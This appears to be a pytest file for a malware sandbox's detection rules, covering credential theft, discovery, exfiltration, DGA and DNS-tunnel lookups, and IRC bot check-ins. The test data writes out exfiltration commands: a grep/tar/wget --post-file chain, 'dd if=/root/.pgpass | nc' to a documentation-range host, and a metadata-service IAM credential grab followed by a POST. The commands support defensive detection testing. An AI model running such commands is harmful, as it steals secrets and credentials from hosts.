"""Credential access, discovery, collected data leaving, DNS shape and IRC check-ins, on event
streams recorded from real sandbox runs of samples/wild (runs/w*/, run records of the tracer that
reports watched reads) and on the recorded benign scenarios."""

from __future__ import annotations

import hashlib
from dataclasses import replace

import pytest

from detonate.detect import runtime_findings
from detonate.detect.correlations.beaconing import Beaconing
from detonate.detect.correlations.credential_access import CredentialAccess
from detonate.detect.correlations.discovery import Discovery
from detonate.detect.correlations.dns_shape import DnsShape, common_bigram_share
from detonate.detect.correlations.exfiltration import Exfiltration
from detonate.detect.interface import RunView
from detonate.detect.provenance import HOST_FACTS, SECRET, provenance_of
from detonate.detect.provenance.collected import host_file_technique
from detonate.model.events import DataWritten, FileOpenedForRead, NetworkSent
from detonate.model.findings import Severity
from detonate.model.netevents import DnsQueried

from .recorded_runs import load_run, recorded_names

BENIGN = [name for name in recorded_names() if name.startswith("b0")]
NEW_RULES = {
    "password-hashes-read",
    "process-memory-read",
    "private-key-read",
    "credentials-sent-out",
    "collected-data-archived",
    "host-facts-sent-out",
    "dga-lookups",
    "dns-tunnel-exfiltration",
    "irc-bot-check-in",
}


def rules(findings: tuple) -> dict[str, object]:  # type: ignore[type-arg]
    return {f.rule_id: f for f in findings}


def test_shadow_read_by_a_go_binary_is_followed_to_its_post() -> None:
    run = load_run("w23-go-shadow-keys-upload")
    found = rules(CredentialAccess().detect(run))
    assert found["password-hashes-read"].evidence[0].path == "/etc/shadow"
    assert "private-key-read" in found
    (sink,) = [s for s in provenance_of(run).sinks if s.taint.kind == SECRET]
    assert sink.how == "sent" and sink.path.startswith("203.0.113.61:8080")
    assert sink.taint.source.path == "/etc/shadow"  # the first credential the image read
    out = rules(Exfiltration().detect(run))
    assert out["credentials-sent-out"].severity is Severity.CRITICAL


def test_reading_other_processes_memory_is_critical_and_environ_alone_high() -> None:
    run = load_run("w24-c-proc-environ-mem")
    finding = rules(CredentialAccess().detect(run))["process-memory-read"]
    assert finding.severity is Severity.CRITICAL
    assert any(e.path.endswith("/mem") for e in finding.evidence)
    environ_only = replace(
        run,
        events=tuple(
            e
            for e in run.events
            if not (isinstance(e, FileOpenedForRead) and e.path.endswith("/mem"))
        ),
    )
    again = rules(CredentialAccess().detect(environ_only))["process-memory-read"]
    assert again.severity is Severity.HIGH


def test_archive_of_honeytokens_is_followed_through_tar_gzip_and_wget() -> None:
    # grep -rl … | xargs tar -czf /tmp/.l.tgz; wget --post-file=/tmp/.l.tgz
    run = load_run("w26-grep-r-password-wget-post")
    out = rules(Exfiltration().detect(run))
    chain = out["credentials-sent-out"].evidence[0].description
    assert "gzip" in chain and "/tmp/.l.tgz" in chain and "sent" in chain
    assert "tar" in out["collected-data-archived"].evidence[0].description


def test_no_collected_data_leaves_without_a_send_after_the_read() -> None:
    # the same run with its sends dropped: nothing left the container
    run = load_run("w26-grep-r-password-wget-post")
    quiet = replace(run, events=tuple(e for e in run.events if not isinstance(e, NetworkSent)))
    assert Exfiltration().detect(quiet) == ()


def test_captured_output_of_discovery_commands_is_host_facts_sent() -> None:
    # Go: exec.Command("uname", "-a").Output(), then POSTs to each generated name
    run = load_run("w07-go-dga-post-uname")
    facts = [s for s in provenance_of(run).sinks if s.taint.kind == HOST_FACTS]
    assert facts and any("read the output of" in h.what for h in facts[0].taint.hops)
    found = rules(Discovery().detect(run))
    assert {"discovery-system-information", "discovery-system-owner"} <= set(found)


def test_generated_names_then_contacted_is_critical() -> None:
    run = load_run("w07-go-dga-post-uname")
    (dga,) = DnsShape().detect(run)
    assert dga.rule_id == "dga-lookups" and dga.severity is Severity.CRITICAL
    # lookups alone (no request after them) stay high
    lookups = replace(run, events=tuple(e for e in run.events if isinstance(e, DnsQueried)))
    (alone,) = DnsShape().detect(lookups)
    assert alone.severity is Severity.HIGH


def test_words_do_not_look_generated() -> None:
    for word in ("prometheus", "alertmanager", "cloudfront", "production"):
        assert common_bigram_share(word) > 0.55


def test_base32_labels_decode_to_the_text_they_carried() -> None:
    run = load_run("w29-py-dns-label-exfil")
    (tunnel,) = DnsShape().detect(run)
    assert tunnel.rule_id == "dns-tunnel-exfiltration"
    assert tunnel.severity is Severity.CRITICAL
    assert "root:" in tunnel.evidence[-1].excerpt  # /etc/passwd, base32-decoded


def _lookups(labels: list[str]) -> RunView:
    return RunView(
        events=tuple(
            DnsQueried(
                seq=n, ts=n / 10, pid=0, name=f"{label}.hashbl.example.test", qtype="A",
                rcode="NXDOMAIN", answers=(), dst_ip="198.18.0.1", dst_port=53,
            )
            for n, label in enumerate(labels)
        )
    )  # fmt: skip


def test_whole_file_digests_asked_over_dns_are_hash_lookups_not_a_tunnel() -> None:
    """A mail or file scanner asks a hash blocklist one digest a name: low. The same amount of
    binary cut into chunks of another size is still a tunnel: high."""
    digests = [hashlib.sha256(bytes([n])).hexdigest() for n in range(10)]
    (lookups,) = DnsShape().detect(_lookups(digests))
    assert lookups.rule_id == "dns-tunnel-exfiltration" and lookups.severity is Severity.LOW
    md5s = [hashlib.md5(bytes([n])).hexdigest() for n in range(10)]
    assert DnsShape().detect(_lookups(md5s))[0].severity is Severity.LOW
    chunks = [d[:50] for d in digests]
    (tunnel,) = DnsShape().detect(_lookups(chunks))
    assert tunnel.severity is Severity.HIGH


@pytest.mark.parametrize(
    ("path", "technique"),
    [("/proc/net/packet", "T1049"), ("/proc/self/net/packet", "T1049"),
     ("/proc/1/task/1/cgroup", "T1082"), ("/proc/1/task/1/mountinfo", "T1082")],
)  # fmt: skip
def test_a_host_file_is_named_as_its_watched_read_is(path: str, technique: str) -> None:
    """The watched reads are asked first: files HOST_FILES never listed are named too."""
    assert host_file_technique(path) == technique


def test_a_file_tool_printing_packet_sockets_is_connections_discovery() -> None:
    """`cat /proc/net/packet` (the packet sockets, as /proc/net/tcp lists TCP's): T1049 from
    the command alone, as its read would be; one process's cmdline stays no discovery."""
    from .stream import Stream

    s = Stream()
    s.exec(1, "cat", "/proc/net/packet", path="/bin/cat")
    s.exec(2, "cat", "/proc/1/cmdline", path="/bin/cat")
    found = rules(Discovery().detect(s.view()))
    assert list(found) == ["discovery-network-connections"]
    assert found["discovery-network-connections"].technique == "T1049"


def test_discovery_survey_sent_out_is_medium() -> None:
    run = load_run("w27-py-discovery-then-beacon")
    found = rules(Discovery().detect(run))
    assert {
        "discovery-system-information",
        "discovery-network-configuration",
        "discovery-network-connections",
        "discovery-system-owner",
        "discovery-processes",
    } <= set(found)
    assert all(f.severity is Severity.INFO for f in found.values())
    sent = rules(Exfiltration().detect(run))["host-facts-sent-out"]
    assert sent.severity is Severity.MEDIUM
    # ps reading pid 1's environment (procps does) is not credential access
    assert "process-memory-read" not in rules(CredentialAccess().detect(run))


def test_irc_bot_announcing_host_and_uid_checks_in() -> None:
    run = load_run("w40-perl-irc-bot")
    assert "irc-bot-check-in" in rules(Beaconing().detect(run))
    # the same messages from a container with another name carry only the uid
    renamed = replace(run, run=replace(run.run, hostname="another-host"))
    assert "irc-bot-check-in" not in rules(Beaconing().detect(renamed))


def test_image_shipped_token_read_through_var_run_link_is_t1528() -> None:
    run = load_run("w25-node-kube-aws-token")
    found = rules(runtime_findings(run))
    assert found["service-account-token-read"].technique == "T1528"


@pytest.mark.parametrize("name", BENIGN)
def test_benign_recorded_runs_raise_none_of_these(name: str) -> None:
    found = set(rules(runtime_findings(load_run(name))))
    assert not found & NEW_RULES


def test_watched_reads_without_send_or_bait_are_not_exfiltration() -> None:
    view = RunView(events=load_run("w24-c-proc-environ-mem").events)
    assert Exfiltration().detect(view) == ()


def test_a_filter_whose_output_began_before_the_credentials_came_still_carries_them() -> None:
    # gzip wrote its header to /tmp/.l.tgz before tar had read the bait; its later writes
    # fold into that first event: the stream is followed through gzip's stdout anyway
    from detonate.model.events import DataWritten

    run = load_run("w26-grep-r-password-wget-post")
    header = next(e for e in run.events if isinstance(e, DataWritten) and e.path == "/tmp/.l.tgz")
    first_bait = next(e for e in run.events if isinstance(e, FileOpenedForRead) and e.honeytoken)
    moved = replace(header, seq=first_bait.seq - 1)
    events = sorted([moved, *(e for e in run.events if e is not header)], key=lambda e: e.seq)
    early = replace(run, events=tuple(events))
    assert "credentials-sent-out" in rules(Exfiltration().detect(early))


def _metadata_then_post(credentials_path: str) -> RunView:
    """python asks the metadata service for `credentials_path`, then POSTs to a drop."""
    from detonate.model.netevents import HttpRequested

    from .stream import Stream

    s = Stream()
    s.exec(1, "python3", "/app/a.py", path="/usr/bin/python3")
    s.connect(1, "169.254.169.254", 80)
    s.add(
        HttpRequested,
        1,
        method="GET",
        host="169.254.169.254",
        path=credentials_path,
        dst_ip="169.254.169.254",
        dst_port=80,
    )
    s.add(
        NetworkSent,
        1,
        family="AF_INET",
        protocol="TCP",
        address="169.254.169.254",
        port=80,
        bytes=120,
        call="sendto",
        succeeded=True,
    )
    s.connect(1, "203.0.113.9", 80)
    s.add(
        NetworkSent,
        1,
        family="AF_INET",
        protocol="TCP",
        address="203.0.113.9",
        port=80,
        bytes=700,
        call="sendto",
        succeeded=True,
    )
    return s.view()


def test_cloud_credentials_from_the_metadata_service_sent_out_are_followed() -> None:
    run = _metadata_then_post("/latest/meta-data/iam/security-credentials/web-role")
    (sink,) = [s for s in provenance_of(run).sinks if s.taint.kind == SECRET]
    assert sink.path.startswith("203.0.113.9")  # not the metadata service asked again
    assert "cloud credentials" in sink.taint.source.what
    assert "credentials-sent-out" in rules(Exfiltration().detect(run))


def test_instance_identity_from_the_metadata_service_is_no_secret() -> None:
    run = _metadata_then_post("/latest/meta-data/placement/region")
    assert [s for s in provenance_of(run).sinks if s.taint.kind == SECRET] == []


def _send(s, pid: int, address: str, port: int) -> None:  # type: ignore[no-untyped-def]
    s.add(
        NetworkSent,
        pid,
        family="AF_INET",
        protocol="TCP",
        address=address,
        port=port,
        bytes=300,
        call="write",
        succeeded=True,
    )


def test_a_second_tools_credential_file_makes_the_reader_a_collector_from_then_on() -> None:
    """Ruby reads its app's dotenv and talks to its database (its own credentials, used), then
    reads root's kubeconfig: from that read on, what it sends carries collected credentials."""
    from .stream import Stream

    s = Stream()
    s.exec(1, "ruby", "/srv/app/worker.rb", path="/usr/bin/ruby")
    s.add(FileOpenedForRead, 1, path="/srv/app/.env", flags="O_RDONLY", succeeded=True)
    s.connect(1, "203.0.113.20", 5432)
    _send(s, 1, "203.0.113.20", 5432)
    assert [x for x in provenance_of(s.view()).sinks if x.taint.kind == SECRET] == []
    s.add(FileOpenedForRead, 1, path="/root/.kube/config", flags="O_RDONLY", succeeded=True)
    _send(s, 1, "203.0.113.20", 5432)
    (sink,) = [x for x in provenance_of(s.view()).sinks if x.taint.kind == SECRET]
    assert [h.path for h in sink.taint.hops[:2]] == ["/srv/app/.env", "/root/.kube/config"]
    found = rules(Exfiltration().detect(s.view()))
    assert found["credential-files-sent-out"].evidence[0].path == "/srv/app/.env"
    assert "credentials-sent-out" in found


def test_each_sender_of_credential_files_is_named_with_the_files_it_read_before_its_send() -> None:
    """Two workers read two tools' credential files each and send: each send's evidence lists
    its own reader's files, read from the first one on and before the send, no other's."""
    from .stream import Stream

    s = Stream()
    s.exec(1, "ruby", "/srv/app/worker.rb", path="/usr/bin/ruby")
    s.spawn(1, 2, "ruby", "/srv/app/worker.rb", path="/usr/bin/ruby")
    for pid, first, second in ((1, "/srv/app/.env", "/root/.kube/config"),
                               (2, "/root/.pgpass", "/root/.netrc")):  # fmt: skip
        s.add(FileOpenedForRead, pid, path=first, flags="O_RDONLY", succeeded=True)
        s.add(FileOpenedForRead, pid, path=second, flags="O_RDONLY", succeeded=True)
    _send(s, 1, "203.0.113.20", 5432)
    _send(s, 2, "203.0.113.21", 5432)
    s.add(FileOpenedForRead, 1, path="/root/.npmrc", flags="O_RDONLY", succeeded=True)
    found = rules(Exfiltration().detect(s.view()))
    listed = sorted(e.description.split(" read and sent")[0]
                    for e in found["credential-files-sent-out"].evidence)  # fmt: skip
    assert listed == ["/root/.pgpass, /root/.netrc", "/srv/app/.env, /root/.kube/config"]


def test_a_copier_reading_one_credential_file_collects_it_but_its_owner_does_not() -> None:
    """`dd if=~/.pgpass | nc` collects; psql reading ~/.pgpass to log in does not."""
    from .stream import Stream

    s = Stream()
    s.exec(1, "sh", "-c", "dd if=/root/.pgpass | nc 198.51.100.5 9000; psql -h db", path="/bin/sh")
    s.spawn(1, 2, "dd", "if=/root/.pgpass", path="/bin/dd", stdout="pipe:[3]")
    s.spawn(1, 3, "nc", "198.51.100.5", "9000", path="/bin/nc", stdin="pipe:[3]")
    s.add(FileOpenedForRead, 2, path="/root/.pgpass", flags="O_RDONLY", succeeded=True)
    s.add(DataWritten, 2, path="pipe:[3]", fd=1, bytes=60)
    s.connect(3, "198.51.100.5", 9000)
    _send(s, 3, "198.51.100.5", 9000)
    s.spawn(1, 4, "psql", "-h", "db", path="/usr/bin/psql")
    s.add(FileOpenedForRead, 4, path="/root/.pgpass", flags="O_RDONLY", succeeded=True)
    s.connect(4, "203.0.113.20", 5432)
    _send(s, 4, "203.0.113.20", 5432)
    sinks = [x for x in provenance_of(s.view()).sinks if x.taint.kind == SECRET]
    assert [(x.pid, x.path) for x in sinks] == [(3, "198.51.100.5:9000")]
